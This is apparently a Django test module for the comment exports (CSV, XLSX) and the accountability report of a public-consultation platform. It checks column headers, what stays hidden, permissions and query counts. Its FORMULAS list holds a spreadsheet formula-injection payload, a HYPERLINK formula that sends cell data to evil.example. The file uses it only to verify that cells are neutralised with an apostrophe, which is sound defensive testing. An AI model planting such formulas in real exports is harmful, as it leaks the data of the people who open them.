"""Comment exports (CSV, XLSX) and the accountability report: contents, headers, permissions.

Texts are checked in English (the source language) except where the German column
headers themselves are the point.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.http import FileResponse, StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from guidelines import exports
from guidelines.models import Comment, Disposition, Response, Version
from participation import spreadsheets
from tests.guidelines.factories import (
    add_supports,
    first_paragraph,
    make_comment,
    make_people,
    make_thread,
    make_version,
)

pytestmark = pytest.mark.django_db

PUBLIC = ["export_csv", "export_xlsx"]
INTERNAL = ["export_internal_csv", "export_internal_xlsx"]
HEADERS = [
    "Document",
    "Version",
    "Chapter",
    "Paragraph",
    "Paragraph key",
    "Paragraph text (excerpt)",
    "Comment ID",
    "Reply to comment ID",
    "Author",
    "Written",
    "Comment",
    "Supports",
    "Moderation state",
    "Withdrawn",
    "Disposition",
    "Reasoning",
    "Answered by",
    "Answered on",
    "Led to (later version)",
]
# Staff also see why a comment was hidden and the moderator's note.
INTERNAL_HEADERS = [
    *HEADERS[:13],
    "Reason for hiding",
    "Moderator note",
    *HEADERS[13:],
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?q="&A1;"Klick")',
    "+49 631 365 0",
    "@SUM(A1:A9)",
    "-2+3",
    "\tTabulator",
    "\rWagenrücklauf",
]


@pytest.fixture(autouse=True)
def english(client):
    client.cookies["django_language"] = "en"


def url(name, version):
    return reverse(f"guidelines:{name}", kwargs={"slug": version.document.slug, "pk": version.pk})


def body(response):
    if isinstance(response, StreamingHttpResponse | FileResponse):
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response):
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(body(response))).active


def xlsx_rows(response):
    return [[cell.value for cell in row] for row in xlsx_sheet(response).iter_rows()]


def rows(client, name, version):
    response = client.get(url(name, version))
    assert response.status_code == 200
    return csv_rows(response) if name.endswith("csv") else xlsx_rows(response)


def by_id(table):
    """Data rows by comment id, each a dict by column header, "" for empty cells in both
    formats."""
    headers = table[0]
    rows = [
        dict(zip(headers, ["" if v is None else str(v) for v in row], strict=True))
        for row in table[1:]
    ]
    return {int(row["Comment ID"]): row for row in rows}


def login(client, request, persona):
    if persona == "anonymous":
        return None
    user = request.getfixturevalue(persona)
    client.force_login(user)
    return user


@pytest.fixture
def consultation(resident, other_resident, editor):
    """A closed consultation with its responses published, and one comment of each kind."""
    version = make_version(
        state=Version.State.CLOSED,
        sections=2,
        paragraphs=3,
        responses_published_at=timezone.now() - timedelta(hours=1),
    )
    paragraph = first_paragraph(version)
    now = timezone.now()
    c = {
        "published": make_comment(paragraph, resident, "Mehr Fristen, bitte."),
        "hidden": make_comment(
            paragraph, other_resident, "Beleidigender Text", state="hidden", hidden_reason="1"
        ),
        "held": make_comment(paragraph, other_resident, "Gemeldeter Text", state="held"),
        "withdrawn": make_comment(paragraph, resident, "Zurückgezogener Text", withdrawn_at=now),
        "pending": make_comment(paragraph, other_resident, "Wartender Text", state="pending"),
        "orphaned": make_comment(paragraph, None, "Von einem gelöschten Konto"),
    }
    c["reply"] = make_comment(paragraph, other_resident, "Eine Antwort.", parent=c["published"])
    add_supports([c["published"]], make_people(3), 3)
    Response.objects.create(
        comment=c["published"],
        disposition=Disposition.PARTLY,
        reasoning="Wir haben die Frist **verlängert**.",
        answered_by="Referat Bürgerbeteiligung",
    )
    Response.objects.create(
        comment=c["hidden"], disposition=Disposition.NOTED, reasoning="Zur Kenntnis."
    )
    version.comments = c
    return version


# --- headers and format ------------------------------------------------------------------


def test_public_csv_streams_utf8_with_bom_as_an_attachment(client, consultation):
    response = client.get(url("export_csv", consultation))

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    slug = consultation.document.slug
    assert response["Content-Disposition"] == (
        f'attachment; filename="{slug}-{consultation.pk}-comments.csv"'
    )
    table = csv_rows(response)
    assert table[0] == HEADERS
    assert all(len(row) == len(HEADERS) for row in table)


def test_public_xlsx_is_an_attachment_with_the_same_columns(client, consultation):
    response = client.get(url("export_xlsx", consultation))

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    slug = consultation.document.slug
    assert response["Content-Disposition"] == (
        f'attachment; filename="{slug}-{consultation.pk}-comments.xlsx"'
    )
    sheet = xlsx_sheet(response)
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert sheet.freeze_panes == "A2"


def test_internal_exports_are_named_internal_and_kept_out_of_shared_caches(
    client, editor, consultation
):
    client.force_login(editor)

    for name, extension in zip(INTERNAL, ["csv", "xlsx"], strict=True):
        response = client.get(url(name, consultation))
        assert response.status_code == 200
        assert f'-comments-internal.{extension}"' in response["Content-Disposition"]
        assert response["Cache-Control"] == "private, no-store"


def test_column_headers_are_german_by_default(client, consultation):
    client.cookies.pop("django_language")

    response = client.get(url("export_csv", consultation))

    headers = csv_rows(response)[0]
    assert headers[2:4] == ["Kapitel", "Absatz"]
    assert headers[10:12] == ["Kommentar", "Zustimmungen"]
    assert headers[14] == "Einordnung"
    assert "-kommentare.csv" in response["Content-Disposition"]
    assert headers[13] == "Zurückgezogen am"  # read back as UTF-8: umlauts intact


# --- contents ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", PUBLIC)
def test_public_export_lists_what_the_thread_shows(client, consultation, name):
    c = consultation.comments
    table = by_id(rows(client, name, consultation))

    assert c["pending"].pk not in table
    assert set(table) == {c[k].pk for k in c if k != "pending"}
    published = table[c["published"].pk]
    assert published["Document"] == consultation.document.title
    assert published["Version"] == consultation.label
    assert published["Chapter"] == "Kapitel 1"
    with translation.override("en"):
        assert published["Paragraph"] == first_paragraph(consultation).label
    assert published["Paragraph key"] == "p001"
    assert published["Paragraph text (excerpt)"].startswith("Absatz 1: Die Stadt")
    assert published["Author"] == "Anna"
    assert published["Comment"] == "Mehr Fristen, bitte."
    assert published["Supports"] == "3"
    assert published["Moderation state"] == "Published"
    assert published["Disposition"] == "partly adopted"
    assert published["Reasoning"] == "Wir haben die Frist verlängert."
    assert published["Answered by"] == "Referat Bürgerbeteiligung"
    assert published["Answered on"].startswith(timezone.localdate().isoformat())
    local = timezone.localtime(c["published"].created_at)
    assert published["Written"] == local.replace(tzinfo=None, microsecond=0).isoformat(sep=" ")
    assert table[c["reply"].pk]["Reply to comment ID"] == str(c["published"].pk)
    assert table[c["orphaned"].pk]["Author"] == "deleted account"


@pytest.mark.parametrize("name", PUBLIC)
def test_public_export_leaves_out_hidden_held_and_withdrawn_texts(client, consultation, name):
    c = consultation.comments
    table = by_id(rows(client, name, consultation))
    everything = "\n".join("\t".join(row) for row in table.values())

    for kind, text in [
        ("hidden", "Beleidigender Text"),
        ("held", "Gemeldeter Text"),
        ("withdrawn", "Zurückgezogener Text"),
    ]:
        assert text not in everything
        row = table[c[kind].pk]
        assert row["Comment"] == ""
        assert row["Author"] == ""
    assert "Wartender Text" not in everything
    assert table[c["hidden"].pk]["Moderation state"] == "Hidden by moderation"
    assert table[c["withdrawn"].pk]["Withdrawn"] != ""
    assert table[c["published"].pk]["Withdrawn"] == ""


@pytest.mark.parametrize("name", INTERNAL)
def test_internal_export_has_every_comment_with_its_text(client, editor, consultation, name):
    client.force_login(editor)
    c = consultation.comments

    table = rows(client, name, consultation)
    assert table[0] == INTERNAL_HEADERS
    table = by_id(table)

    assert set(table) == {comment.pk for comment in c.values()}
    assert table[c["hidden"].pk]["Comment"] == "Beleidigender Text"
    assert table[c["hidden"].pk]["Author"] == "Ben"
    assert table[c["held"].pk]["Comment"] == "Gemeldeter Text"
    assert table[c["withdrawn"].pk]["Comment"] == "Zurückgezogener Text"
    assert table[c["pending"].pk]["Comment"] == "Wartender Text"
    assert table[c["pending"].pk]["Moderation state"] == "Awaiting moderation"


@pytest.mark.parametrize(("public", "internal"), list(zip(PUBLIC, INTERNAL, strict=True)))
def test_unpublished_responses_are_only_in_the_internal_export(
    client, editor, consultation, public, internal
):
    Version.objects.filter(pk=consultation.pk).update(responses_published_at=None)
    published = consultation.comments["published"].pk

    row = by_id(rows(client, public, consultation))[published]
    assert row["Disposition"] == ""
    assert row["Reasoning"] == ""
    assert row["Answered by"] == ""

    client.force_login(editor)
    row = by_id(rows(client, internal, consultation))[published]
    assert row["Disposition"] == "partly adopted"
    assert row["Reasoning"] == "Wir haben die Frist verlängert."


def test_responses_published_in_the_future_are_not_public_yet(client, consultation):
    Version.objects.filter(pk=consultation.pk).update(
        responses_published_at=timezone.now() + timedelta(days=1)
    )

    table = by_id(rows(client, "export_csv", consultation))

    assert table[consultation.comments["published"].pk]["Disposition"] == ""


@pytest.mark.parametrize("name", PUBLIC)
def test_export_of_a_version_without_comments_is_a_page_saying_so(client, name):
    version = make_version(state=Version.State.CLOSED)

    response = client.get(url(name, version))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
    assert b"data-export-empty" in response.content


def test_rows_follow_the_paragraph_order(client, resident):
    version = make_version(state=Version.State.CLOSED, paragraphs=3)
    paragraphs = list(version.paragraphs.order_by("-order"))  # newest comment on § 1
    for paragraph in paragraphs:
        make_comment(paragraph, resident, f"Zu § {paragraph.order}")

    table = rows(client, "export_csv", version)

    column = table[0].index("Paragraph key")
    assert [row[column] for row in table[1:]] == ["p001", "p002", "p003"]


# --- spreadsheet formulas ----------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_neutralise_prefixes_an_apostrophe_to_formula_starts(text):
    assert spreadsheets.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Normaler Text", "49 Euro", "'schon zitiert", "", "a=b"])
def test_neutralise_leaves_other_text_alone(text):
    assert spreadsheets.neutralise(text) == text


@pytest.mark.parametrize("name", ["export_csv", "export_internal_csv"])
def test_csv_cells_that_would_compute_get_an_apostrophe(client, editor, resident, name):
    version = make_version(state=Version.State.CLOSED)
    made = [make_comment(first_paragraph(version), resident, text) for text in FORMULAS]
    resident.display_name = "=1+1"
    resident.save(update_fields=["display_name"])
    client.force_login(editor)

    table = by_id(rows(client, name, version))

    for comment in made:
        row = table[comment.pk]
        assert row["Comment"] == "'" + comment.text
        assert row["Author"] == "'=1+1"
        assert not any(cell.startswith(spreadsheets.FORMULA_TRIGGERS) for cell in row)


@pytest.mark.parametrize("name", ["export_xlsx", "export_internal_xlsx"])
def test_xlsx_cells_that_would_compute_are_text_with_an_apostrophe(client, editor, resident, name):
    version = make_version(state=Version.State.CLOSED)
    made = [make_comment(first_paragraph(version), resident, t) for t in [*FORMULAS, "#N/A"]]
    Response.objects.create(
        comment=made[0], disposition="noted", reasoning="=1+2", answered_by="@Amt"
    )
    Version.objects.filter(pk=version.pk).update(responses_published_at=timezone.now())
    client.force_login(editor)

    sheet = xlsx_sheet(client.get(url(name, version)))

    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value: cell.data_type for cell in cells if isinstance(cell.value, str)}
    for text in FORMULAS:
        # XML parsers read a raw CR as LF; the apostrophe still comes first.
        assert texts["'" + text.replace("\r", "\n")] == "s"
    assert texts["#N/A"] == "s"  # not an error value
    assert texts["'=1+2"] == "s"
    assert texts["'@Amt"] == "s"


def test_xlsx_drops_control_characters_a_worksheet_cannot_hold(client, resident):
    version = make_version(state=Version.State.CLOSED)
    comment = make_comment(first_paragraph(version), resident, "Glocke\x07 und\x0b Tab")

    table = by_id(rows(client, "export_xlsx", version))

    assert table[comment.pk]["Comment"] == "Glocke und Tab"


# --- who may download what ---------------------------------------------------------------


@pytest.mark.parametrize("persona", ["anonymous", "resident", "moderator", "editor"])
@pytest.mark.parametrize("name", [*PUBLIC, "version_report"])
def test_everyone_gets_the_public_export_and_report(client, request, consultation, persona, name):
    login(client, request, persona)

    assert client.get(url(name, consultation)).status_code == 200


@pytest.mark.parametrize("persona", ["anonymous", "resident", "board_office"])
@pytest.mark.parametrize("name", INTERNAL)
def test_internal_export_is_forbidden_without_the_comment_permission(
    client, request, consultation, persona, name
):
    login(client, request, persona)

    response = client.get(url(name, consultation))

    assert response.status_code == 403
    assert b"Beleidigender Text" not in response.content


@pytest.mark.parametrize("persona", ["editor", "moderator", "admin_user"])
@pytest.mark.parametrize("name", INTERNAL)
def test_staff_with_the_comment_permission_get_the_internal_export(
    client, request, consultation, persona, name
):
    login(client, request, persona)

    assert client.get(url(name, consultation)).status_code == 200


@pytest.mark.parametrize("name", [*PUBLIC, *INTERNAL, "version_report"])
def test_exports_of_unknown_versions_are_not_found(client, editor, consultation, name):
    client.force_login(editor)
    slug = consultation.document.slug
    other = make_version(state=Version.State.CLOSED)

    urls = [
        reverse(f"guidelines:{name}", kwargs=kwargs)
        for kwargs in [
            {"slug": slug, "pk": 999_999},
            {"slug": "gibt-es-nicht", "pk": consultation.pk},
            {"slug": slug, "pk": other.pk},  # a version of another document
        ]
    ]
    # beyond any database integer (no URL can be reversed for it)
    urls.append(
        reverse(f"guidelines:{name}", kwargs={"slug": slug, "pk": 999_999}).replace(
            "/999999/", f"/{2**70}/"
        )
    )
    for target in urls:
        response = client.get(target)
        assert response.status_code == 404, target
        assert b"Page not found" in response.content


@pytest.mark.parametrize("persona", ["anonymous", "resident", "editor"])
@pytest.mark.parametrize("name", PUBLIC)
def test_public_exports_of_drafts_are_not_found(client, request, persona, name):
    draft = make_version(state=Version.State.DRAFT)
    login(client, request, persona)

    assert client.get(url(name, draft)).status_code == 404


@pytest.mark.parametrize("name", [*PUBLIC, *INTERNAL, "version_report"])
def test_exports_answer_only_reads(client, editor, consultation, name):
    client.force_login(editor)

    assert client.post(url(name, consultation)).status_code == 405


# --- query counts ------------------------------------------------------------------------


def seed(version, comments):
    """``comments`` comments spread over the paragraphs, half of them replies, some hidden,
    with supports and published responses."""
    authors = make_people(5)
    made = []
    paragraphs = list(version.paragraphs.all())
    for paragraph in paragraphs:
        made += make_thread(
            paragraph,
            authors,
            top_level=comments // len(paragraphs) // 2,
            replies_per_comment=1,
        )
    Comment.objects.filter(pk__in=[c.pk for c in made[::7]]).update(state="hidden")
    add_supports(made[::3], authors, 2)
    Response.objects.bulk_create(
        Response(comment=c, disposition="noted", reasoning="Danke.", answered_by="Amt")
        for c in made[::2]
    )
    return made


def count_queries(client, address):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(address)
        body(response)  # a streamed export reads while it streams
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize(
    ("name", "persona", "budget"),
    [
        # One of them asks whether there is a row at all (never an empty file).
        ("export_csv", "anonymous", 6),
        ("export_xlsx", "anonymous", 6),
        ("export_csv", "resident", 6),
        # Session and user, and ModelBackend's two permission lookups (user and groups):
        # the export itself is the same two queries as the public one.
        ("export_internal_csv", "editor", 7),
        ("export_internal_xlsx", "editor", 7),
        ("export_internal_csv", "admin_user", 6),
        ("version_report", "anonymous", 8),
        ("version_report", "resident", 10),
    ],
)
def test_export_queries_do_not_grow_with_the_comments(
    client, request, name, persona, budget, django_assert_max_num_queries
):
    version = make_version(
        state=Version.State.CLOSED,
        sections=2,
        paragraphs=5,
        responses_published_at=timezone.now(),
    )
    login(client, request, persona)
    few = seed(version, 10)
    small = count_queries(client, url(name, version))

    seed(version, 300)
    assert Comment.objects.count() == len(few) + 300

    with django_assert_max_num_queries(budget):
        response = client.get(url(name, version))
        content = body(response)
    assert count_queries(client, url(name, version)) == small
    if name.endswith("csv"):
        assert content.count(b"\r\n") == Comment.objects.count() + 1  # and the header


def test_the_export_itself_is_two_queries(django_assert_num_queries):
    version = make_version(state=Version.State.CLOSED, responses_published_at=timezone.now())
    seed(version, 60)

    with django_assert_num_queries(1):
        rows_ = list(exports.CommentExport(version, internal=True).rows())

    assert len(rows_) == Comment.objects.count()


# --- the accountability report -----------------------------------------------------------


def test_report_shows_numbers_paragraphs_comments_and_published_responses(client, consultation):
    response = client.get(url("version_report", consultation))

    content = response.content.decode()
    assert response.status_code == 200
    assert consultation.document.title in content
    assert "<caption>Participation in numbers</caption>" in content
    assert "<caption>Responses by disposition</caption>" in content
    assert '<th scope="row">partly adopted</th><td>1</td>' in content
    assert '<th scope="row">noted</th><td>1</td>' in content
    # Comments: published, hidden, held, withdrawn, orphaned; the reply; not the pending one.
    assert '<th scope="row">Comments</th><td>5</td>' in content
    assert '<th scope="row">Replies</th><td>1</td>' in content
    assert '<th scope="row">Participants (different authors)</th><td>2</td>' in content
    assert '<th scope="row">Supports</th><td>3</td>' in content
    assert '<th scope="row">Answered</th><td>2 of 5</td>' in content
    assert "Absatz 1: Die Stadt informiert" in content
    assert "Mehr Fristen, bitte." in content
    assert "Wir haben die Frist <strong>verlängert</strong>." in content
    assert "Referat Bürgerbeteiligung" in content
    for secret in ["Beleidigender Text", "Gemeldeter Text", "Zurückgezogener Text"]:
        assert secret not in content
    assert "Wartender Text" not in content
    assert "This comment was withdrawn by its author." in content
    assert "Hidden by moderation." in content


def test_report_leaves_out_unpublished_responses(client, consultation):
    Version.objects.filter(pk=consultation.pk).update(responses_published_at=None)

    content = client.get(url("version_report", consultation)).content.decode()

    assert "verlängert" not in content
    assert "have not been published yet" in content
    assert "Responses by disposition" not in content


def test_report_is_printable_without_inline_script(client, consultation):
    content = client.get(url("version_report", consultation)).content.decode()

    assert "css/report.css" in content
    assert "js/print.js" in content
    assert "<script>" not in content
    assert "onclick" not in content
    assert 'class="report-chapter"' in content
    # Links carry absolute addresses, so that the printout can spell them out.
    assert f'href="http://testserver{first_paragraph(consultation).get_absolute_url()}"' in content


@pytest.mark.parametrize("persona", ["anonymous", "resident"])
def test_report_of_a_draft_is_not_found(client, request, persona):
    draft = make_version(state=Version.State.DRAFT)
    login(client, request, persona)

    assert client.get(url("version_report", draft)).status_code == 404


def test_version_page_links_report_and_public_exports(client, consultation):
    content = client.get(consultation.get_absolute_url()).content.decode()

    for name in [*PUBLIC, "version_report"]:
        assert f'href="{url(name, consultation)}"' in content
    for name in INTERNAL:
        assert url(name, consultation) not in content


def test_version_page_links_internal_exports_for_staff_with_the_permission(
    client, editor, consultation
):
    client.force_login(editor)

    content = client.get(consultation.get_absolute_url()).content.decode()

    for name in INTERNAL:
        assert f'href="{url(name, consultation)}"' in content
